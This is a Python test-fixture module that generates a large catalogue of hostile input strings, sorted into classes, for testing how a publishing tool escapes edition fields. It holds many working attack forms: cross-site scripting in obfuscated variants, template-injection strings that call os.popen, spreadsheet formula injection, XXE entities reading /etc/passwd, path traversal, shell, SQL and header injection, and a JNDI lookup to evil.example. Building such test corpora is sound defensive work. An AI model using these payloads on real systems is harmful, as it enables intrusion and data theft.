"""What an attacker, or bad luck, may put into any field of an edition: written for these tests, each with its class.

Most are combined: what runs, in each of the disguises under which it might pass. All that could run would open a
dialog, and all that could fetch would ask ``evil.example``: a browser that meets them live would tell.
"""

from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from urllib.parse import quote

RUN = "alert(1)"
AWAY = "https://evil.example/x"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text and its class."""

    kind: str
    text: str


def _scripts() -> Iterator[str]:
    opened = (
        "<script>", "<SCRIPT>", "<ScRiPt >", "<script\n>", "<script\t>", "<script/x>", "<script/>", "</script><script>",
        "<<script>", "<scr<script>ipt>", "<script type=module>", "<script src=//evil.example/x>",
        f'<script src="{AWAY}">', "<script x='>' src=//evil.example/x>", "<script defer async src=//evil.example/x >",
        "<\u017fcript>", "<script\x0c>", "<script\u00a0>", "<svg><script>", "<math><script>", "<!--><script>",
    )  # fmt: skip
    for begin, end in product(opened, ("</script>", "</ScRiPt \t>", "")):
        yield f"{begin}{RUN}{end}"
    for wrapper in ("title", "textarea", "style", "noscript", "xmp", "iframe", "template", "select", "option", "table",
                    "svg", "math", "pre", "button", "a", "p", "main", "body", "html", "head", "footer", "dl",
                    "ol"):  # fmt: skip
        yield f"</{wrapper}><script>{RUN}</script>"
    yield from ("\"><script>alert(1)</script>", "'><script>alert(1)</script>", "--><script>alert(1)</script>",
                "]]><script>alert(1)</script>", "?><script>alert(1)</script>",
                "`><script>alert(1)</script>")  # fmt: skip


def _handlers() -> Iterator[str]:
    elements = (
        ("img", "src=x onerror"), ("svg", "onload"), ("body", "onload"), ("input", "autofocus onfocus"),
        ("details", "open ontoggle"), ("video", "src=x onerror"), ("audio", "src=x onerror"),
        ("marquee", "onstart"), ("a", "href=# onclick"), ("select", "autofocus onfocus"), ("p", "onmouseover"),
        ("iframe", "onload"), ("object", "data=x onerror"), ("link", "rel=stylesheet href=x onerror"),
        ("style", "onload"), ("button", "autofocus onfocus"), ("math", "onclick"), ("div", "onpointerenter"),
        ("x", "onanimationstart"), ("dialog", "open onclose"),
    )  # fmt: skip
    for (element, event), form in product(
        elements, ('<{} {}="{}">', "<{} {}={}>", "<{}/{}='{}'/>", "<{}\n{}\t=\n`{}`>")
    ):
        yield form.format(element, event, RUN)
    for mark, event in product(('"', "'", "", "`", "&quot;"), ("onmouseover", "OnFocus", "onload", "style")):
        yield f"x{mark} {event}={mark}{RUN}{mark} y={mark}"


def _pictures() -> Iterator[str]:
    inner = (
        "<script>{}</script>", "<script href='data:,{}'/>", "<animate onbegin={} attributeName=x dur=1s>",
        "<a href='javascript:{}'><text>x</text></a>", "<set attributeName=href to='javascript:{}'>",
        "<foreignObject><body onload={}></foreignObject>", "<use href='data:image/svg+xml,<svg onload={}>'/>",
        "<image href=x onerror={}>", "<style>*{{background:url(//evil.example/x)}}</style><g onload={}>",
        "<handler type='text/javascript'>{}</handler>", "<feImage href='//evil.example/{}'/>",
    )  # fmt: skip
    for frame, matter in product(
        ("<svg>{}</svg>", "<SVG xmlns='http://www.w3.org/2000/svg'>{}", "<math>{}</math>"), inner
    ):
        yield frame.format(matter.format(RUN))


def _styles() -> Iterator[str]:
    rules = (
        "@import '//evil.example/x.css';", "@import url(//evil.example/x.css);", "*{background:url(//evil.example/x)}",
        "*{x:expression(alert(1))}", "*{behavior:url(#default#time2)}", "*{-moz-binding:url(//evil.example/x#y)}",
        "@font-face{font-family:x;src:url(//evil.example/x)}", "body{display:none!important}",
        "a::after{content:'\\3c'}",
        "*{background:u\\72l(//evil.example/x)}", "@charset 'x'; @namespace y url(//evil.example);",
    )  # fmt: skip
    for rule, form in product(
        rules, ("<style>{}</style>", "<style media=all>{}", '" style="{}', "</style><style>{}", "{}")
    ):
        yield form.format(rule)
    yield f"<link rel=stylesheet href={AWAY}>"


def _frames() -> Iterator[str]:
    for element, attribute in (("iframe", "src"), ("embed", "src"), ("object", "data"), ("frame", "src"), ("portal",
    "src"),
                               ("iframe", "srcdoc"), ("applet", "code"), ("fencedframe", "src"), ("webview",
                               "src")):  # fmt: skip
        for address in (AWAY, "//evil.example/x", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>"):
            yield f'<{element} {attribute}="{address}"></{element}>'


def _pages() -> Iterator[str]:
    yield from (
        "<base href=//evil.example/>", "<base target=_blank>",
        "<meta http-equiv=refresh content='0;url=//evil.example/x'>",
        "<meta http-equiv=Set-Cookie content=a=b>", "<meta charset=utf-7>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<meta name=referrer content=unsafe-url>",
        "<form action=//evil.example/x><input type=submit></form>", "<button formaction=javascript:alert(1)>x</button>",
        "<form id=form><input name=action></form><button form=form>x</button>", "<isindex action=//evil.example/x>",
        "<link rel=import href=//evil.example/x>", "<link rel=prefetch href=//evil.example/x>",
        "<link rel=preconnect href=//evil.example>", "<link rel=icon href=//evil.example/x>",
        "<link rel=manifest href=x>",
        "<a href=//evil.example ping=//evil.example/p>x</a>", "<a download href=data:,x>x</a>",
        "<area href=javascript:alert(1)>",
        "<input type=image src=//evil.example/x>", "<video poster=//evil.example/x>",
        "<source srcset=//evil.example/x>",
        "<img srcset='//evil.example/x 1x'>", "<img src=//evil.example/x>", "<table background=//evil.example/x><td>",
        "<body background=//evil.example/x>", "<track src=//evil.example/x>",
        "<a target=_top href=//evil.example>x</a>",
        "<plaintext>", "<xmp>", "<textarea>", "<title>", "<noscript>", "<template>", "<select><option>",
        "<table><tr><td>",
        "<!--", "<!-- x --", "-->", "--!>", "<!doctype html>", "<![CDATA[", "<?php echo 1 ?>", "<%= 7*7 %>", "<",
        "</", "<>",
        "</main></body></html>", "</html>", "<html onload=alert(1)>", "<div id=main>", "<p id=record class=name>",
        "<a name=x>",
        "<slot>", "<dialog open>x</dialog>", "<details open>x", "<p hidden>", "<bdo dir=rtl>x", "<font size=99>x",
        "<b><i></b>x",
        "<img name=getElementById>", "<form name=body>", "<a id=location><a id=location name=href>",
        "<input id=dataset>",
    )  # fmt: skip


def _disguised(scheme: str) -> Iterator[str]:
    """The address of something that runs, in every dress under which a browser might still know it."""
    whole = f"{scheme}:{RUN}" if "script" in scheme else f"{scheme}:text/html,<script>{RUN}</script>"
    rest = whole.partition(":")[2]
    yield from (
        whole, whole.upper(), scheme.title() + ":" + rest, f" {whole}", f"\t{whole}",
        f"{scheme[:4]}\t{scheme[4:]}:{rest}",
        f"{scheme[:4]}\n{scheme[4:]}:{rest}", f"{scheme[:2]}\r{scheme[2:]}:{rest}", f"\u00a0{whole}", f"\u200b{whole}",
        f"\u202e{whole}", f"\u2028{whole}", f"\ufeff{whole}", f"&#{ord(scheme[0])};{scheme[1:]}:{rest}",
        f"&#x{ord(scheme[0]):x};{scheme[1:]}:{rest}", f"&#{ord(scheme[0]):07};{scheme[1:]}:{rest}",
        f"{scheme}&colon;{rest}",
        f"{scheme}&#58;{rest}", f"{scheme[:3]}&Tab;{scheme[3:]}:{rest}", f"{scheme[:3]}&NewLine;{scheme[3:]}:{rest}",
        f"{scheme}%3A{rest}", quote(scheme[0]) + f"%{ord(scheme[1]):x}{scheme[2:]}:{rest}", f"{scheme}\u003a{rest}",
        f"{scheme}\uff1a{rest}", "".join(chr(ord(c) + 0xFEE0) for c in scheme) + f":{rest}", f"feed:{whole}",
        f"view-source:{whole}",
        f"jar:{whole}", f"url:{whole}", f"//{whole}", f"http://{whole}", f"{scheme}://%0a{rest}",
        f"\\x{ord(scheme[0]):02x}{scheme[1:]}:{rest}",
    )  # fmt: skip


def _addresses() -> Iterator[str]:
    for scheme in ("javascript", "vbscript", "data"):
        yield from _disguised(scheme)
    yield from (
        "livescript:alert(1)", "mocha:alert(1)", "blob:https://evil.example/x", "filesystem:https://evil.example/x",
        "about:blank", "file:///etc/passwd", "file://evil.example/x", "ftp://evil.example/x", "//evil.example/x",
        "/\\evil.example/x", "\\\\evil.example\\x", "\\/\\/evil.example", "///evil.example", "////evil.example/x",
        "https:evil.example", "https:/evil.example", "http:\\\\evil.example\\x", "https://evil.example\\@good.example/",
        "https://good.example@evil.example/", "https://evil.example:80:80/", "https://[::1",
        "https://\u202eelpmaxe.live/",
        "https://\u0435vil.example/", "https://evil\u3002example/", "https://evil\uff0eexample/", "https://0x7f.1/",
        "https://2130706433/",
        "https://evil.example/%0d%0aSet-Cookie:a=b", "https://x\ty.example/", "ws://evil.example/",
        "gopher://evil.example:70/_x",
        "tel:+0", "sms:+0?body=x", "mailto:x@evil.example?bcc=all@evil.example", "intent://x#Intent;end",
        "ms-msdt:/id x", "search-ms:query=x",
        "data:image/svg+xml,<svg onload=alert(1)>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:,", "#x\" onclick=\"alert(1)",
    )  # fmt: skip


def _templates() -> Iterator[str]:
    for opened, closed in (("{{", "}}"), ("{{{", "}}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("<%", "%>"), ("{%",
    "%}"),
                           ("{{-", "-}}"), ("*{", "}"), ("@{", "}"), ("[[", "]]"), ("{#", "#}"), ("<#", ">"), ("~{",
                           "}")):  # fmt: skip
        for inner in ("7*7", " page.__class__.__mro__ ", " ''.__class__.__base__.__subclasses__() "):
            yield f"{opened}{inner}{closed}"
    yield from (
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}", "{% raw %}",
        "{% endraw %}",
        "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{{ lipsum.__globals__ }}",
        "{{ '%c'|format(60)|safe }}",
        "{% set x = 1 %}{{ x }}", "{{ range(10**9)|list }}", "{% for _ in range(99999999) %}x{% endfor %}",
        "%(names)s", "%s%s%n",
        "{0.__class__}", "{names}", "{label!r:>99999999}", "$$7*7$$", "#set($x=7*7)$x", "<c:out value='x'/>",
        "{{constructor.constructor('alert(1)')()}}",
    )  # fmt: skip


def _markdown() -> Iterator[str]:
    forms = (
        "[x]({})",
        "[x](<{}>)",
        "<{}>",
        "![x]({})",
        "[x][r]\n\n[r]: {}",
        "[x]( {} 'y')",
        '[x](<{}> "y\\" onclick=alert(1)")',
    )
    addresses = (
        "javascript:alert(1)",
        "JaVaScRiPt&colon;alert(1)",
        "data:text/html,<script>alert(1)</script>",
        AWAY,
        "//evil.example/x",
    )
    for form, address in product(forms, addresses):
        yield form.format(address)
    yield from (
        '```"><script>alert(1)</script>\nx\n```', "~~~ x onload=alert(1)\nx\n~~~", "# <script>alert(1)</script>",
        "# x {onclick=alert(1)}",
        "- [x] <img src=x onerror=alert(1)>", "> <svg onload=alert(1)>",
        "| <b> | `<i>` |\n|-|-|\n| <u> | </td><script>alert(1)</script> |",
        "[x]: <javascript:alert(1)>\n[x]", "![<script>](x)", "*<script>*alert(1)**</script>**",
        "`<script>alert(1)</script>`", "<a\nhref=x>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;", "\\<script>alert(1)</script>", "a<!-- b -->c",
        "[^1]: <script>",
        "<https://evil.example/\">onclick=alert(1)>", "https://evil.example/\"onmouseover=alert(1)",
        "www.evil.example", "![](x.svg)", "[[x]]", "::: x\n:::",
    )  # fmt: skip


def _programs() -> Iterator[str]:
    """What leaves the string, field or file that a download puts it into."""
    yield from (f"{mark}{end}" for mark in ("</script>", "<\\/script>", "<!--<script>", "-->", "]]>", '"}', "'};",
    "\u2028x", "\u2029x")
                for end in ("", "<script>alert(1)</script>", '{"@type":"Person"}', ";alert(1)//"))  # fmt: skip
    yield from (
        '","name":"x',
        '\\"',
        "\\",
        "\\u003cscript\\u003e",
        "\\u0000",
        "\\ud800",
        "{}",
        "[]",
        '"@context":"//evil.example"',
        "null",
        "NaN",
        "1e999",
    )


def _records() -> Iterator[str]:
    """What begins a field, a record or a formula of its own in BibTeX, RIS, CSV and spreadsheets."""
    for begin in ("=", "+", "-", "@", "\t=", "=-", "+=", " =", "'=", '"=', ";=", ",=", "\uff1d", "%0A="):
        yield begin + "cmd|'/c calc'!A1"
    yield from (
        '=HYPERLINK("https://evil.example/?"&A1,"x")', '=WEBSERVICE("https://evil.example/")',
        "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
        "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "-1", "-1.5", "+1", "-2+3", "- 1. Order the dredger", "=", "@", "-", "+",
        "x}, title = {y", "x\n}\n@misc{y, title={z}}", "@comment{", "@string{x = y}", "@preamble{\"\\write18{id}\"}",
        "\\input{/etc/passwd}", "\\write18{id}",
        "\\immediate\\write18{id}", "{", "}", "{{}}", "%", "$x$", "~", "^", "_", "#", "&", "\\\\", "x % y",
        "\\end{document}", "\\catcode`\\@=11", "\\char`\\\\",
        "x and y and z", "and", "others", "x, y, z, w", "x # y", "\"x\" # \"y\"", "x\nTY  - BOOK\nER  - ",
        "TY  - BOOK", "ER  - ", "x\r\nAU  - y", "\nT1  - z",
        'x","y', 'x"\n"y', "x\ny", "x\r\ny", "x;y", "x\ty", "'x", '"', '""', '"""', ",", "\ufeffx", "sep=;", "x\x1ay",
    )  # fmt: skip


def _xml() -> Iterator[str]:
    yield from (
        "]]>", "<![CDATA[<b>]]>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "&y;", "&xxe;", "%pe;",
        "<!ENTITY % x SYSTEM '//evil.example'>",
        "<?xml version='1.0'?>", "<?xml-stylesheet href='//evil.example/x.xsl'?>", "<?x y?>", "&#0;", "&#1;",
        "&#xD800;", "&#x110000;", "&#65534;", "&bogus;", "&",
        "&amp;", "&lt;", "&amp;lt;", "xmlns:x='y'", "<x:y xmlns:x='urn:x'/>",
        "<xi:include href='/etc/passwd' parse='text'/>", "--", "<!--", "</entry><entry>",
        "</title><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>", "</loc><loc>https://evil.example/",
        "</TEI>", "<teiHeader/>", "]]]]><![CDATA[>",
        "&#x202e;", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&ltscript&gtalert(1)", "&#x3cscript>", "&notit;",
    )  # fmt: skip


def _lines() -> Iterator[str]:
    for end in ("\r\n", "\n", "%0d%0a", "\\r\\n", "\u560d\u560a"):
        yield from (f"x{end}Set-Cookie: a=b", f"x{end}{end}<script>alert(1)</script>", f"x{end}Location: {AWAY}")
    yield from ("x\n::set-output name=a::b", "::error::x", "%0A::error file=x::y",
    "x\x1b]8;;https://evil.example\x1b\\y\x1b]8;;\x1b\\", "\x1b[2J\x1b[31mx",
                "\x9b31mx", "x\x08\x08\x08y", "x\rPublished 0 errors", "\x07", "\x1b]0;x\x07")  # fmt: skip


def _paths() -> Iterator[str]:
    yield from (
        "../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd",
        "C:\\windows\\win.ini", "C:x", "\\\\?\\C:\\x", "~root/.ssh/x",
        "%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc", "..%c0%af..%c0%afetc", "\u2025/etc/passwd",
        "\uff0e\uff0e/etc/passwd", "..;/x", "./x", "x/../../y", "x/./y", "x//y", "..",
        ".", "", " ", "x ", "x.", "x::$DATA", "con", "CON", "aux.html", "NUL", "com1", "LPT9.txt", "prn.",
        ".git/config", ".htaccess", "index.html", "assets", "404", "CNAME",
        "x\0.html", "x" * 300, "-rf", "--output=/etc", "$(id)", "`id`", "|id", ";id", "&&id", "$HOME", "%PATH%", "*",
        "?", "[a-z]", "{a,b}", "!x", "'", '"', "x:y", "x|y", "<x>",
    )  # fmt: skip


def _signs() -> Iterator[str]:
    zalgo = "".join(chr(0x300 + number % 0x6F) for number in range(200))
    yield from (
        f"z{zalgo}algo", zalgo, "\u202eevil\u202c", "\u2066x\u2069", "\u2067\u2067\u2067x", "\u061cx",
        "a\u200fb\u200ec", "\u202d" * 50 + "x", "\u2069\u202c", "مرحبا <b>", "שלום\u202e)",
        "\u200b", "x\u200by", "\u00ad", "x\u00ady", "\ufeffx", "\u2060", "\u180e", "\u034f", "\u115f", "\u3164",
        "\u2800", "\u00a0", "\u3000", "\u2028", "\u2029", "\x85", "\x0c", "\x0b",
        "ﬁ", "ﷺ", "İ", "ı", "ſ", "ß", "ẞ", "ŉ", "\u1e9b\u0323", "K", "Å", "é", "e\u0301", "\u0041\u030a", "한글",
        "\u1112\u1161\u11ab", "𝒳𝓎𝓏", "ｆｕｌｌ", "①②", "½", "٣", "Ⅳ", "〇",
        "👩\u200d👩\u200d👧\u200d👦", "🏳️\u200d🌈", "🇦🇹", "👍🏽", "\U0001f468\u200d", "\U000e0001\U000e0041", "\ufe0f",
        "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\ufdd0", "\ue000", "\U000f0000", "\U0001f9ff" * 99,
        "𐍈", "漢字かな", "ไทย", "தமிழ்", "ଡ଼", "\u0e47" * 99, "ܐ", "\u180e", "\u202e\u202e\u202e", "ﬀ", "null\u0301",
        "\u2003x\u2003", "ʹ", "＜script＞alert(1)＜/script＞", "‹script›", "\u00bcscript\u00be", "\ud7ff",
    )  # fmt: skip
    yield from (f"x{chr(number)}y" for number in (*range(1, 9), *range(11, 13), *range(14, 32), *range(127, 160, 4)))
    yield "x\0y"


def _naughty() -> Iterator[str]:
    yield from (
        "undefined", "undef", "null", "NULL", "(null)", "nil", "None", "true", "False", "NaN", "Infinity",
        "-Infinity", "0", "-0", "00", "1.", ".1", "1/0", "0x0", "1e1000", "1E-999", "9" * 400, "1,000.00", "1'000",
        "hasOwnProperty", "constructor", "__proto__", "prototype", "toString", "__class__", "__init__", "then",
        "length", "name", "location", "document", "eval", "self", "$", "_", "this", "arguments",
        "' OR '1'='1", "1; DROP TABLE protocols--", "'; EXEC xp_cmdshell('id')--", "admin'--", "*)(uid=*))(|(uid=*",
        "' or count(//*)=1 or '", "$ne", '{"$gt":""}', "() { :;}; id", "${jndi:ldap://evil.example/x}",
        "%d%d%d%n%s", "%p%x", "{}", "%", "%%", "\\n", "\\0", "\\x41", "\\u0041", "\\", "/*", "*/", "//", "#", "--",
        ";", "|", "&", "`", "~", "!", "?", "...", "…", "(", ")", "[", "]", "[]", "()", "{", "}",
        "(a+)+$", "a" * 3000, "[" * 500, "(" * 500, '"' * 500, "<" * 500, "&" * 500, "-" * 500, "." * 500,
        " " * 500 + "x", "1" * 500, "I" * 500, "\t" * 50, "A." * 200, "[1]" * 50, "__" * 100, "No. __", "[...]",
        "1962-02-30", "9999-99-99", "0000-00-00", "February 30, 1962", "24:61", "١٩٦٢", "Scunthorpe",
        "Lang, Weber and Moser", "Present: x", "I. On x", "- [1] Translator's Note: x", "Summary:", "Cde. x—y", "[1]",
        "[999]",
    )  # fmt: skip


def _yaml() -> Iterator[str]:
    yield from (
        "!!python/object/apply:os.system ['id']", "!!python/name:os.system", "!!binary x", "!x", "*x", "&x y",
        "<<: *x", "? x", "- x", "x: y", ": x", "x:", "@x", "`x", "%YAML 1.1", "%TAG ! tag:x:", "---", "...", "--- x",
        "|", ">",
        "|2", "{x: y}", "[x, y]", "# x", "x # y", "~", "yes", "No", "on", "0o17", "0b1", "1_000", "1:30",
        "2001-01-01", ".inf", ".nan", "=", "'x", '"x', "'x'", '"x"', "x'y", "{", "[", ",", "\\x", '"\\x00"',
    )  # fmt: skip


def _typst() -> Iterator[str]:
    yield from (
        '#read("/etc/passwd")', '#import "@preview/x:0.1.0"', '#include "/etc/passwd"',
        '#image("//evil.example/x.png")', '#link("javascript:alert(1)")', "#eval(\"1+1\")", "#sys.inputs", "#panic()",
        "#pagebreak()", "#set page(width: 1pt)",
        "#{while true {}}", "$ x $", "`x`", "```typ #x```", "*x*", "_x_", "= x", "- x", "+ x", "/ x: y", "@x", "<x>",
        "~", "--", "---", "\\u{41}", "\\", "// x", "/* x", "#", "#x", "\\#x", "https://evil.example/x",
        "#metadata(1) <x>",
    )  # fmt: skip


_CLASSES = {
    "script": _scripts, "handler": _handlers, "svg": _pictures, "style": _styles, "frame": _frames, "page": _pages,
    "address": _addresses, "template": _templates, "markdown": _markdown, "json": _programs, "record": _records,
    "xml": _xml, "line": _lines, "path": _paths, "sign": _signs, "naughty": _naughty, "yaml": _yaml, "typst": _typst,
}  # fmt: skip

PAYLOADS = tuple({text: Payload(kind, text) for kind, make in _CLASSES.items() for text in make()}.values())
"""Each text once, with the last class that has it."""


def counts() -> dict[str, int]:
    """How many payloads each class has."""
    return dict(Counter(payload.kind for payload in PAYLOADS))


if __name__ == "__main__":
    print(len(PAYLOADS), counts())
